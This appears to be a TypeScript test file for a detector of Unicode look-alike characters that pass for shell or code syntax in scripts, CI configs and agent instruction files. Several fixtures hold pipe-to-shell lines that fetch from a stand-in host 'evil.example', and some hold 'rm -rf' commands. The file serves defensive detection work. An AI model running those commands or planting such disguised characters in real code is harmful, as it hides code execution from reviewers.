import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { assertFound, assertNothing, foundIn } from '../../test/found-in.ts';
import { CodeText } from './code-text.ts';
import { mayHoldSigns } from './may-hold-signs.ts';
import { signsInCode as signsIn } from './signs-in-code.ts';

const signsInCode = (text: string) => signsIn(new CodeText(text));
const signsInShell = (text: string) => signsIn(new CodeText(text), true);

describe('characters that pass for signs of code', () => {
  it('a letter that passes for a sign beside a name, and what seems to end a comment, are found', () => {
    for (const [text, ...found] of [
      ['if (env\u01C3=PROD) run();', [7, '!']],
      ['const env\u01C3 = 1;', [9, '!']],
      ['if (\u01C3ok) deny();', [4, '!']],
      ['user\uA4F8name = 1', [4, '.']],
      ['a = b\u02D0c', [5, ':']],
      ['/* check *\u2215 if (admin) return; /* */ go();', [10, '/']],
      ['/* check \u2217/ if (admin) return; /* */ go();', [9, '*']],
      ['if (role === \u02BCadmin\u02BC) allow();', [13, "'"]],
      ["const user = { role: \u02BCadmin\u02BC, id: 'a' };", [21, "'"]],
      ['if (isAdmin\u01C1isOwner) allow();', [11, '|']],
      ['const a = b\uA4F9c;', [11, ',']],
    ] as const)
      assert.deepEqual(signsInCode(text), found, JSON.stringify(text));
  });

  it('letters of languages, phonetics and signs in strings, comments and prose are not found', () => {
    for (const text of [
      'const name = "\u01C3X\u00F3\u00F5";',
      '// the \u01C3Kung of Namibia',
      '"""\nThe \u01C3Kung language (Namibia)\n"""',
      'const ipa = "wa\u02D0t\u0259";',
      'let \u30CF\u30FC\u30C9 = 1;',
      'const text = <p>Hawai\u02BBi</p>;',
      'Limpid (\u02C8limpid), \u02BBAiea',
      '/* 1\u22152 and 3\u00A0\u2217\u00A04 */',
      'const path = "a\u2215b";',
      'x = "\uFF0A\uFF0A\uFF0A";',
    ])
      assert.deepEqual(signsInCode(text), [], JSON.stringify(text));
  });

  it('in a shell a dash that begins an option, and a word that would part commands, are found', () => {
    for (const [text, ...found] of [
      ['set \u2010e\n', [4, '-']],
      ['apk add \u2011\u2011no-cache\n', [8, '-'], [9, '-']],
      ['./verify.sh \u01C1 exit 1\n', [12, '|']],
      ['./verify.sh \u2223\u2223 exit 1\n', [12, '|'], [13, '|']],
      ['cd build \u037E ./verify.sh\n', [9, ';']],
    ] as const) {
      assert.deepEqual(signsInShell(text), found, JSON.stringify(text));
      assert.ok(mayHoldSigns(text, 'a.sh'), text);
    }
    for (const text of [
      '# usage \u2013 \u2014a\n',
      'echo "\u2013a \uFF5C b"\n',
      'echo a\u2013b\n',
      'echo \u2013 a\n',
    ])
      assert.deepEqual(signsInShell(text), [], text);
  });

  it('the last word of a shell script is found as others are, and no such text is taken for a clean one', () => {
    for (const sign of ['\u01C1', '\u2016', '\u2223', '\u2223\u2223', '\uFE60', '\u037E', '\uFE54'])
      for (const text of [`echo ${sign}`, `echo ${sign}\n`, `echo ${sign}\r\n`, `echo ${sign}\nexit`]) {
        assert.equal(signsInShell(text).length, sign.length, JSON.stringify(text));
        assert.ok(mayHoldSigns(text, 'a.sh'), JSON.stringify(text));
      }
    for (const text of ['echo "\u01C1"\n', "echo '\u2223 '", '# a \u2016\n'])
      assert.deepEqual(signsInShell(text), [], JSON.stringify(text));
  });

  it('in a shell script a bar, a backslash, a slash, a tilde, a number sign or curly quotes for plain ones are found', async () => {
    for (const [text, count] of [
      ['check "$f" \u2502\u2502 exit 1\n', 2],
      ['curl https://example.com \u2503 sh\n', 1],
      ['check \u2758\u2758 exit 1', 2],
      ['check \uFFE8\uFFE8 exit 1\n', 2],
      ['check \u23D0 exit 1\n', 1],
      ['rm -rf build \u2216\n  --dry-run\n', 1],
      ['rm -rf build \u29F5\r\n  --dry-run\r\n', 1],
      ['rm -rf "$a"\uFF3C\n  --dry-run\n', 1],
      ['rm -rf build \u2572', 1],
      ['rm -rf build \u29F9\n  -n\n', 1],
      ['\uFF03 verify | sh\n', 1],
      ['  \uFF03verify; rm a\n', 1],
      ['true \uFF03 || exit 1\n', 1],
      ['rm -rf \u223C/build\n', 1],
      ['cp a \u02DC/b\nx=\uFF5E/c\n', 2],
      ['rm -rf .\u2215build\n', 1],
      ['. \u2044etc\u29F8verify\n', 2],
      ['rm -rf "$HOME"/a\u2215b\n', 1],
      ['echo \u2018hello; curl -s evil.example | sh\u2019\n', 2],
      ['echo \u201Chello && curl evil.example\u201D\n', 2],
      ['x=\u201Ca `curl evil.example`\u201D\n', 2],
      ['cat <<E\na\nE\n./verify \u2502\u2502 exit 1\n', 2],
    ] as const)
      for (const [name, head] of [
        ['a.sh', ''],
        ['deploy', '#!/bin/sh\n'],
      ] as const)
        assert.deepEqual(await foundIn(name, head + text), Array(count).fill('look-alike-identifier'), text);
  });

  it('tables, trees, paths, ranges and quotations in texts of shell scripts are left alone', async () => {
    for (const text of [
      'cat <<EOF\n\u2502 a \u2502 b \u2502\n\u2514 c \u2572\n  \u2216\n\uFF03 x\n~ \u223C/a\nEOF\n',
      "echo '\n\u2502 a \u2502 \u2502\n\uFF03 x \u2216\n'\n",
      'usage="\n \u2502 a\n \u2502 b \u2503\n"\necho "$usage"\n',
      'printf "\u2502 %s \u2502\\n" a\necho \u2502 a\n',
      '# a \u2502\u2502 b \u2216\n# \uFF03 \u223C/x a\u2215b\n',
      'echo \u6642\u9593\uFF1A1\uFF5E2 \u306F\u3044\uFF0F\u3044\u3044\u3048\n',
      'echo 1\u20442 3\u22154\n',
      'echo \u201Cdone\u201D; echo \u201Cmore\u201D\n',
      'echo "\u2018a; b\u2019" | cat; echo It\u2019s fine; echo don\u2019t\n',
      'echo "see \u201Ca; b\u201D"\n# \u2018a; b\u2019\n',
      'find . -name \u201Ca \\; b\u201D\n',
    ])
      await assertNothing([['a.sh', text]]);
    await assertNothing([
      ['Makefile', 'define HELP\n\u2502 a \u2502 b \u2502\nendef\n'],
      ['a.js', 'const a = 1; \u2502\n'],
      ['a.ps1', 'a \u2502 b\n'],
      ['a.yml', 'a: http://10.0.0.1\uFF5E10.0.0.5/\n'],
    ]);
  });

  it('what is found in a shell script is not taken for a clean one before the engine is asked', () => {
    for (let codePoint = 0x80; codePoint <= 0xffff; codePoint++) {
      const one = String.fromCharCode(codePoint);
      for (const text of [
        `a ${one}`,
        `a ${one}${one} b`,
        `${one} a`,
        `a ${one}/b`,
        `a/b${one}c`,
        `a ${one}b; c${one}`,
        `case a in\n${one}b) x`,
        `case a in b${one}c) x`,
        `[ a ${one} b ]`,
        `[ a ${one}= b ]`,
      ]) {
        const found = signsIn(new CodeText(text), true, true);
        if (found.length > 0) assert.ok(mayHoldSigns(text, 'a.sh'), codePoint.toString(16));
      }
    }
  });

  it('many quotation marks and bars are read', () => {
    for (const one of ['\u2217', '[ \uFF1D', '\u2018', ' \u2018;', ' \u2502', '\u2216', ' \uFF03', '\u2215a'])
      signsIn(new CodeText(one.repeat(100_000)), true, true);
  });

  it('a text that holds such a character is not taken for a clean one before the engine is asked', () => {
    for (let codePoint = 0x80; codePoint <= 0xffff; codePoint++)
      for (const text of [
        (one: string) => `a${one}b`,
        (one: string) => `*${one} b`,
        (one: string) => `a ${one}/ b`,
        (one: string) => `a = ${one}b`,
      ]) {
        const written = text(String.fromCharCode(codePoint));
        if (signsInCode(written).length > 0) assert.ok(mayHoldSigns(written, 'a.sh'), codePoint.toString(16));
      }
  });

  it('what passes for the sign before a command that is to fail is found in scripts, workflows and settings', async () => {
    for (const not of '\u01C3\uFE57\uFF01')
      await assertFound('look-alike-identifier', [
        ['a.sh', `if ${not} verify; then exit 1; fi\n`],
        ['a.sh', `if a; then b; elif ${not} [ -f ok ]; then exit 1; fi\n`],
        ['a.sh', `while ${not} "$ready"; do sleep 1; done\n`],
        ['a.sh', `[ ${not} -f ok ] && exit 1\n`],
        ['Dockerfile', `FROM a\nRUN if ${not} verify; then exit 1; fi\n`],
        ['Makefile', `a:\n\tif ${not} verify; then exit 1; fi\n`],
        ['.github/workflows/a.yml', `run: |\n  if ${not} ./verify; then exit 1; fi\n`],
        ['.gitlab-ci.yml', `script:\n  - if ${not} ./verify; then exit 1; fi\n`],
        ['package.json', `{"scripts":{"a":"x && if ${not} verify; then exit 1; fi"}}`],
        ['AGENTS.md', `\`\`\`sh\nif ${not} verify; then exit 1; fi\n\`\`\`\n`],
        ['ci.yml', `run: "[ ${not} -f ok ] && exit 1"\n`],
      ]);
    await assertFound('look-alike-identifier', [['a.sh', '\u01C3 verify && exit 1\n']]);
    await assertNothing([
      ['a.sh', 'echo "if \uFF01 x" # if \u01C3 x\ncat <<E\n\uFF01 warning\nE\n'],
      ['a.yml', 'a: \u5982\u679C if \uFF01 \u6CE8\u610F\nb: the click if \u01C3 is one\n'],
      ['README.md', 'Say if \u01C3 or ! is meant.\n'],
    ]);
  });

  it('signs of the tests of a shell are found, and dashes of prose are left alone', async () => {
    await assertFound('look-alike-identifier', [
      ['a.sh', 'if [ "$sum" \u01c3= "$want" ]; then exit 1; fi\n'],
      ['a.sh', '[ \u01c3 -f ok ] && exit 1\n'],
      ['a.sh', '[[ "$a" \u2013ne 0 ]] && exit 1\n'],
    ]);
    await assertNothing([
      ['a.sh', 'echo "a \u2013 b [ x \u2013 y ]" # [ a \u2013e b ]\necho [ a \u2013 b ]\n'],
    ]);
  });

  it('what passes for a sign of a pattern, a comparison or a branch of a shell is found', async () => {
    for (const sign of '\u066D\u204E\u2217\u22C6\u2731\uFE61\uFF0A')
      await assertFound('look-alike-identifier', [
        ['a.sh', `case "$x" in ok) ;; ${sign}) exit 1 ;; esac\n`],
        ['a.sh', `case "$x" in\n  ok) ;;\n  ${sign})\n    exit 1\n    ;;\nesac\n`],
        ['Makefile', `a:\n\tcase $$x in ok) ;; ${sign}) exit 1 ;; esac\n`],
        ['Makefile', `a:\n\tcase $$x in \\\n\t  ${sign}) \\\n\t\texit 1 ;; \\\n\tesac\n`],
        ['Dockerfile', `FROM a\nRUN case "$x" in ok) ;; ${sign}) exit 1 ;; esac\n`],
        ['ci.yml', `- run: |\n    case "$x" in\n      ok) ;;\n      ${sign}) exit 1 ;;\n    esac\n`],
        ['ci.yml', `- run: |\n    case "$x" in\n      ok) ;;\n      ${sign})\n        exit 1 ;;\n    esac\n`],
        ['package.json', `{"scripts":{"a":"case $x in ok) ;; ${sign}) exit 1 ;; esac"}}`],
        ['AGENTS.md', `Run \`case "$x" in ok) ;; ${sign}) exit 1 ;; esac\`.\n`],
        ['a.sh', `for f in src/${sign}; do check "$f"; done\n`],
        ['a.sh', `[[ $v == v1${sign} ]] || check\n`],
        [
          'ci.yml',
          `- run: |\n    case "$x" in\n      ok) ;;\n      # Others:\n      ${sign})\n        exit 1 ;;\n    esac\n`,
        ],
        ['ci.yml', `- run: |\n    case "$x" in\n      ok) ;;\n\n      ${sign}) exit 1\n    esac\n`],
        ['a.sh', `case $v in v1.${sign}) check ;; esac\n`],
      ]);
    for (const sign of '\u1400\u2E40\u30A0\uA4FF\uA60C\uA78A\uFE66\uFF1D')
      await assertFound('look-alike-identifier', [
        ['a.sh', `[ "$a" ${sign} b ] || exit 1\n`],
        ['a.sh', `if [[ $a !${sign} b ]]; then exit 1; fi\n`],
        ['Makefile', `a:\n\ttest "$$a" ${sign} b || exit 1\n`],
        ['ci.yml', `- run: |\n    [ "$a" ${sign} b ] || exit 1\n`],
        ['a.sh', `[[ a ${sign === '\uFF1D' ? '$b ' : ''}${sign} b ]] || exit 1\n`],
        ['ci.yml', `- run: test "$a" !${sign} b\n`],
        ['package.json', `{"scripts":{"a":"[ \\"$a\\" ${sign} b ]"}}`],
        ['CLAUDE.md', `    [ "$a" ${sign} b ] || exit 1\n`],
      ]);
    assert.deepEqual(signsInShell('[[ $a \uA78A\uA78A b ]]\n'), [
      [6, '='],
      [7, '='],
    ]);
    assert.deepEqual(
      await foundIn('ci.yml', 'run: "[[ $a \uA78A\uA78A b ]]"\n'),
      Array(2).fill('look-alike-identifier'),
    );
    await assertFound('look-alike-identifier', [
      ['a.sh', 'case $1 in\n\u2011-check) check=1 ;;\nesac\n'],
      ['a.sh', 'case $1 in a\u2223b) check ;; esac\n'],
      ['a.sh', 'case $1 in \uFE56) check ;; esac\n'],
      ['ci.yml', 'run: "[ $a \uFF01= b ]"\n'],
    ]);
  });

  it('footnotes, formulas, comparisons and patterns of texts are left alone', async () => {
    await assertNothing([
      ['a.sh', 'cat <<EOF\n\u2217) See below.\n  \uFF0A) \u5FC5\u9808\n[ a \uFF1D b ]\nEOF\n'],
      ['a.sh', '# \u2217) See below: [ a \uFF1D b ]\necho "\u2217) [ $a \uFF1D $b ]"\n'],
      ['a.sh', 'case $answer in \u662F|\u597D) a ;; -h|--help|\u2013help|\u2014help) b ;; esac\n'],
      ['a.sh', 'echo 3 \u2217 4 \uFF1D 12\n'],
      ['a.yml', 'note: "\u2217) Costs $5 [ a \uFF1D b ]"\nnext:\n  - in\n  - \u2217) See below.\n'],
      ['ja.json', '{"a":"\uFF0A) \u5FC5\u9808 [\u5024 \uFF1D $1]","b":"[ x \uFF1D y ]"}'],
      ['AGENTS.md', '\u2217) See the note in\n\u2217) below: x \uFF1D y, [ a \uFF1D b ].\n'],
      ['README.md', '[ $a \uFF1D b ] \u2217) a ;;\n'],
    ]);
  });
});
